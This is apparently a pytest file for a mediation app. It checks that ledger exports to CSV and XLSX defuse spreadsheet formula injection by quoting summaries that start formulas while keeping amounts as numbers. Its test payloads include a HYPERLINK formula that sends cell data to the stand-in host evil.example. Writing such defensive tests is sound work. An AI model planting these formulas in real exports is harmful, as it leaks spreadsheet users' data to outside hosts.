"""Ledger exports never carry live formulas (OWASP CSV injection): text that a spreadsheet
would read as a formula gets a leading quote, XLSX text cells are typed as strings, and
numbers stay numbers. An exported file imports back to the same text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from mediation_app.ledger.columns import COLUMNS, as_text
from mediation_app.ledger.services import export_ledger, write_csv, write_xlsx

PLANTED = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)",
           "\tcmd", "\rcmd"]
SUMMARY = COLUMNS.index("summary")
AMOUNT = COLUMNS.index("amount")


@pytest.mark.parametrize("planted", PLANTED)
def test_a_csv_ledger_export_quotes_a_summary_that_starts_a_formula(session, make, planted):
    make.case(summary=planted)
    make.commit()
    buffer = io.StringIO()
    with write_csv(buffer, codes=True) as write_row:
        export_ledger(session, write_row)
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows[1][SUMMARY] == "'" + planted
    assert rows[1][AMOUNT] == "1200.00"


def test_an_xlsx_ledger_export_writes_text_cells_as_quoted_strings_and_amounts_as_numbers(
        session, make, tmp_path):
    make.case(summary=PLANTED[0])
    make.commit()
    path = tmp_path / "ledger.xlsx"
    with write_xlsx(path) as write_row:
        export_ledger(session, write_row)
    sheet = load_workbook(path).active
    summary, amount = sheet.cell(2, SUMMARY + 1), sheet.cell(2, AMOUNT + 1)
    assert summary.data_type == "s" and summary.value == "'" + PLANTED[0]
    assert amount.data_type == "n" and float(amount.value) == 1200.0


def test_a_quoted_cell_reads_back_as_the_text_that_was_exported():
    assert as_text("'=1+2") == "=1+2"
    assert as_text("'plain") == "'plain"
